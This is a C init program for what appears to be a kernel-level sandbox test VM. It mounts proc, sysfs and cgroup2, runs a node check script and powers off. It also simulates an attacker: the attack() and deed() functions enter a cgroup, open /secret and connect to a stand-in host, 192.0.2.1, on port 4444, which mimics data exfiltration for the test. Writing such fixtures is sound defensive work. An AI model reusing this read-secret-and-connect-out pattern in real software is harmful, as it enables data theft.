/* PID 1 of the little machine: mounts what is needed, runs the check, switches off. Also plays the attacker. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

/* Enters the cgroup and becomes another image there. */
static int attack(const char *procs)
{
	int fd = open(procs, O_WRONLY);

	if (fd < 0 || write(fd, "0", 1) != 1)
		return 1;
	execl("/init", "deed", "--loot", NULL);
	return 1;
}

static int deed(void)
{
	struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(4444)};

	peer.sin_addr.s_addr = inet_addr("192.0.2.1");
	if (open("/secret", O_RDONLY) < 0)
		return 1;
	connect(socket(AF_INET, SOCK_STREAM, 0), (void *)&peer, sizeof(peer));
	return 0;
}

int main(int count, char **argument)
{
	if (count > 2 && !strcmp(argument[1], "attack"))
		return attack(argument[2]);
	if (!strcmp(argument[0], "deed"))
		return deed();
	mkdir("/proc", 0755);
	mkdir("/sys", 0755);
	mkdir("/tmp", 0755);
	mount("proc", "/proc", "proc", 0, NULL);
	mount("sysfs", "/sys", "sysfs", 0, NULL);
	mount("cgroup2", "/sys/fs/cgroup", "cgroup2", 0, NULL);
	if (fork() == 0) {
		execl("/bin/node", "node", "/seamark/test/kernels/check.ts", NULL);
		_exit(127);
	}
	wait(NULL);
	sync();
	reboot(RB_POWER_OFF);
	return 0;
}
